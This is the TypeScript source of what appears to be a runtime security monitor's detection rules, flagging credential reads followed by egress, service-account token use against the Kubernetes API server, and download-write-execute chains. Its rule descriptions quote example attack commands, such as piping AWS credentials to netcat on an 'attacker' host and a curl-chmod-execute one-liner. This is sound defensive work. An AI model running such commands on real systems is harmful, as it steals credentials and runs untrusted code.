import {
  basename,
  connectSucceeded,
  type EventOf,
  isLocalAddress,
  secretClass,
  TOKEN_EGRESS_WINDOW_NS,
  type VigilEvent,
} from '@vigil/core';
import { defineRule, type RuleContext } from '../../api/rule.js';

/** What a chain step remembers: the event and the process tree it happened in. */
interface Step {
  readonly root: number;
  readonly events: readonly VigilEvent[];
}

function isRead(access: string): boolean {
  return access === 'read' || access === 'readwrite';
}

function peerOf(ev: EventOf<'net.connect'>): string {
  return `${ev.dnsName ?? ev.daddr}:${ev.dport}`;
}

/** A connect that leaves the host: succeeded (or in progress), not Unix, not loopback. */
function isEgress(ev: EventOf<'net.connect'>): boolean {
  return ev.family !== 'unix' && connectSucceeded(ev.result) && !isLocalAddress(ev.daddr);
}

function fresh(step: Step | undefined, ts: number): step is Step {
  const first = step?.events[0];
  return first !== undefined && ts >= first.ts && ts - first.ts <= TOKEN_EGRESS_WINDOW_NS;
}

function endpointKey(endpoint: string): string | undefined {
  try {
    const url = new URL(endpoint.includes('://') ? endpoint : `http://${endpoint}`);
    const port = url.port ? Number(url.port) : url.protocol === 'https:' ? 443 : 80;
    return `${url.hostname.replace(/^\[|\]$/g, '')}:${port}`;
  } catch {
    return undefined;
  }
}

/** Remembers the model endpoints a workload calls (from `model.call` events), so egress to them is not exfiltration. */
function learnModelEndpoint(ev: EventOf<'model.call'>, ctx: RuleContext): void {
  const key = ev.endpoint === undefined ? undefined : endpointKey(ev.endpoint);
  if (key !== undefined) ctx.state.set(`model:${key}`, true);
}

function isModelEndpoint(ev: EventOf<'net.connect'>, ctx: RuleContext): boolean {
  return (
    ctx.state.get<boolean>(`model:${ev.daddr}:${ev.dport}`) === true ||
    (ev.dnsName !== undefined && ctx.state.get<boolean>(`model:${ev.dnsName}:${ev.dport}`) === true)
  );
}

/** The API server a workload was told about, from `KUBERNETES_SERVICE_HOST`/`PORT` in an exec's environment. */
function apiServerOf(ev: EventOf<'process.exec'>): string | undefined {
  let host: string | undefined;
  let port = '443';
  for (const e of ev.env ?? []) {
    if (e.startsWith('KUBERNETES_SERVICE_HOST=')) host = e.slice(24);
    else if (e.startsWith('KUBERNETES_SERVICE_PORT=')) port = e.slice(24);
  }
  return host === undefined || host === '' ? undefined : `${host}:${port}`;
}

/** A credential read and then egress by the same process tree. */
export const credentialThenEgress = defineRule({
  meta: {
    id: 'vigil.runtime.credential-then-egress',
    title: 'Credential read, then egress from the same process tree',
    description:
      'A process read a credential (cloud keys, SSH keys, kubeconfig, registry or Git credentials, a service-account token) and a process of the same tree — the same tool call’s shell, its pipe partners, their children — then connected to a peer that is not loopback and not a model endpoint the workload calls, within ten minutes. `cat ~/.aws/credentials | nc attacker 4444` is the shape. Works without a baseline; with one, a read and a peer both seen while learning are not reported, and a new one makes it critical. Service-account tokens sent to the API server (or anywhere when the API server is unknown) are left to `vigil.runtime.token-then-api-server`. Equivalents: Falco "Read sensitive file untrusted" and Kubescape R0011 "Unexpected egress network traffic", joined by one process tree.',
    severity: 'high',
    version: '1.0.0',
    areas: ['credential-access', 'exfiltration'],
    tags: {
      owaspLlm: ['LLM02', 'LLM06'],
      owaspAgentic: ['ASI02', 'ASI03'],
      atlas: ['AML.T0055', 'AML.T0025'],
      attack: ['T1552.001', 'T1041'],
    },
    equivalents: [
      'Falco: Read sensitive file untrusted (followed by egress)',
      'Kubescape: R0011 Unexpected egress network traffic (after a credential read)',
    ],
    rationale:
      'A credential is read to be used or to be taken: when the same tree then talks to a peer that is not its model API, it is on its way out.',
    falsePositives:
      'Cloud SDKs read their credentials and call their cloud API from the same process; learn a baseline so known pairs stay quiet.',
    tuning:
      'Learn a baseline over the SDK’s normal work, or add an exception on `dnsName` globs of the cloud API (e.g. `*.amazonaws.com`).',
  },
  kinds: ['file.open', 'net.connect', 'model.call', 'process.exec'],
  facts: { 'file.open': ['succeeded', 'read', 'credential'], 'net.connect': ['succeeded', 'remote'] },
  onEvent(ev, ctx) {
    if (ev.kind === 'model.call') return learnModelEndpoint(ev, ctx);
    if (ev.kind === 'process.exec') {
      if (apiServerOf(ev) !== undefined) ctx.state.set('api', apiServerOf(ev));
      return;
    }
    // The tree's root is looked up only for the few events that can be a step (most file opens are not).
    if (ev.kind === 'file.open') {
      if (ev.result < 0 || !isRead(ev.access)) return;
      const cls = secretClass(ev.path);
      if (cls === undefined) return;
      const root = ctx.processes.root(ev.pid);
      ctx.state.set(`cred:${root}`, { root, events: [ev] } satisfies Step);
      return;
    }
    if (!isEgress(ev) || isModelEndpoint(ev, ctx)) return;
    const step = ctx.state.get<Step>(`cred:${ctx.processes.root(ev.pid)}`);
    if (!fresh(step, ev.ts)) return;
    const read = step.events[0] as EventOf<'file.open'>;
    if (secretClass(read.path) === 'service-account-token') {
      const api = ctx.state.get<string>('api');
      if (api === undefined || api === `${ev.daddr}:${ev.dport}`) return;
    }
    const b = ctx.baseline;
    const known = b?.covers(ev.workload) === true;
    if (known && b!.seen(read) && b!.seen(ev)) return;
    const secs = Math.round((ev.ts - read.ts) / 1e9);
    ctx.report({
      subject: `${read.path}→${peerOf(ev)}`,
      summary: `${basename(read.exe || read.comm)} (pid ${read.pid}) read the credential ${read.path}, then ${basename(ev.exe || ev.comm)} (pid ${ev.pid}) of the same process tree connected to ${peerOf(ev)} ${secs} s later`,
      events: [read, ev],
      ...(known ? { severity: 'critical' as const } : {}),
      riskReasons: ['credential read and egress joined by one process tree'],
    });
  },
});

/** A service-account token read and then a connect to the API server by the same process tree. */
export const tokenThenApiServer = defineRule({
  meta: {
    id: 'vigil.runtime.token-then-api-server',
    title: 'Service-account token read, then the API server contacted',
    description:
      'A process read a Kubernetes service-account token (`/var/run/secrets/kubernetes.io/serviceaccount/token` or a projected token) and a process of the same tree then connected to the API server — the address in `KUBERNETES_SERVICE_HOST`/`KUBERNETES_SERVICE_PORT` when an exec event carried the environment, otherwise any peer that is not loopback — within ten minutes. An agent whose tool reads the token and calls the API with it as a bearer token is acting as the workload’s identity. Works without a baseline. Equivalents: Kubescape R0006 "Unexpected service account token access" and Falco "Contact K8S API Server From Container", joined by one process tree.',
    severity: 'critical',
    version: '1.0.0',
    areas: ['credential-access', 'kubernetes-api', 'privilege-escalation'],
    tags: {
      owaspLlm: ['LLM06'],
      owaspAgentic: ['ASI03'],
      atlas: ['AML.T0055'],
      attack: ['T1528', 'T1552.007'],
    },
    equivalents: [
      'Kubescape: R0006 Unexpected service account token access (followed by API access)',
      'Falco: Contact K8S API Server From Container',
    ],
    rationale:
      'The token is the workload’s identity; a tool that reads it and then talks to the API server is using that identity, which an agent’s task almost never needs.',
    falsePositives:
      'Controllers and operators built on client-go read the token and call the API as their job (on start and on rotation).',
    tuning: 'Add an exception on `exe` for the controller binary, scoped to its workload.',
  },
  kinds: ['file.open', 'net.connect', 'process.exec'],
  facts: { 'file.open': ['succeeded', 'read', 'credential'], 'net.connect': ['succeeded', 'remote'] },
  onEvent(ev, ctx) {
    if (ev.kind === 'process.exec') {
      const api = apiServerOf(ev);
      if (api !== undefined) ctx.state.set('api', api);
      return;
    }
    if (ev.kind === 'file.open') {
      if (ev.result < 0 || !isRead(ev.access) || secretClass(ev.path) !== 'service-account-token') return;
      const root = ctx.processes.root(ev.pid);
      ctx.state.set(`sa:${root}`, { root, events: [ev] } satisfies Step);
      return;
    }
    if (ev.family === 'unix' || !connectSucceeded(ev.result) || isLocalAddress(ev.daddr)) return;
    const step = ctx.state.get<Step>(`sa:${ctx.processes.root(ev.pid)}`);
    if (!fresh(step, ev.ts)) return;
    const api = ctx.state.get<string>('api');
    if (api !== undefined && api !== `${ev.daddr}:${ev.dport}`) return;
    const read = step.events[0] as EventOf<'file.open'>;
    ctx.report({
      subject: `${read.path}→${peerOf(ev)}`,
      summary: `${basename(read.exe || read.comm)} (pid ${read.pid}) read the service-account token ${read.path}, then ${basename(ev.exe || ev.comm)} (pid ${ev.pid}) of the same process tree connected to ${api === undefined ? `${peerOf(ev)} (the API server address is unknown: any peer counts)` : `the API server ${peerOf(ev)}`}`,
      events: [read, ev],
      riskReasons: ['token read and API server connect joined by one process tree'],
    });
  },
});

/** A connect, then a file written, then that file executed, by one process tree. */
export const downloadWriteExec = defineRule({
  meta: {
    id: 'vigil.runtime.download-write-exec',
    title: 'Download, write, execute',
    description:
      'A process tree connected to a peer that is not loopback, then wrote a file, then executed that file, within ten minutes: `curl -o /tmp/x http://… && chmod +x /tmp/x && /tmp/x` and its variants, wherever the file lands. Works without a baseline. Equivalent: Falco "Drop and execute new binary in container", with the download that precedes it.',
    severity: 'critical',
    version: '1.0.0',
    areas: ['execution', 'defense-evasion', 'network-egress'],
    tags: { owaspAgentic: ['ASI05'], attack: ['T1105', 'T1204'], atlas: ['AML.T0050'] },
    equivalents: ['Falco: Drop and execute new binary in container (with the download that precedes it)'],
    rationale:
      'Fetching a program and running it is how a stage arrives; agents that install software on purpose do it through package managers at build time, not at run time.',
    falsePositives: 'Self-updaters and installers that download and run their own binaries.',
    tuning: 'Add an exception on `filename` globs of the updater’s path, scoped to its workload.',
  },
  kinds: ['net.connect', 'file.open', 'process.exec'],
  facts: {
    'net.connect': ['succeeded', 'remote'],
    'file.open': ['succeeded', 'modify'],
    'process.exec': ['succeeded'],
  },
  onEvent(ev, ctx) {
    if (ev.kind === 'net.connect') {
      if (!isEgress(ev)) return;
      const root = ctx.processes.root(ev.pid);
      ctx.state.set(`net:${root}`, { root, events: [ev] } satisfies Step);
      return;
    }
    if (ev.kind === 'file.open') {
      if (ev.result < 0 || (ev.access !== 'write' && ev.access !== 'readwrite' && ev.created !== true))
        return;
      const root = ctx.processes.root(ev.pid);
      const net = ctx.state.get<Step>(`net:${root}`);
      if (!fresh(net, ev.ts)) return;
      ctx.state.set(`w:${ev.path}`, { root, events: [net.events[0]!, ev] } satisfies Step);
      return;
    }
    if (ev.result !== undefined && ev.result < 0) return;
    const written = ctx.state.get<Step>(`w:${ev.filename}`);
    const root = ctx.processes.root(ev.pid);
    if (!fresh(written, ev.ts) || written.root !== root) return;
    const [connect, write] = written.events as [EventOf<'net.connect'>, EventOf<'file.open'>];
    ctx.report({
      subject: ev.filename,
      summary: `the process tree of pid ${root} connected to ${peerOf(connect)}, wrote ${write.path} and then executed it`,
      events: [connect, write, ev],
      riskReasons: ['download, write and exec joined by one process tree'],
    });
  },
});
